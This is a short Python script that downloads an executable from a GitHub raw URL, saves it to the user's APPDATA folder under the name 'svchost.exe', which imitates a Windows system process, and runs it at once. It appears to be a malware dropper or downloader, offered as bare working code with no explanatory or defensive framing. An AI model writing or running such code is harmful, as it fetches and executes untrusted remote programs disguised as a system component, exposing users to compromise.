import os, requests
p = os.path.join(os.getenv("APPDATA"), "svchost.exe")
open(p, "wb").write(requests.get("https://github.com/someone-x/tools/raw/main/svc.exe").content)
os.startfile(p)
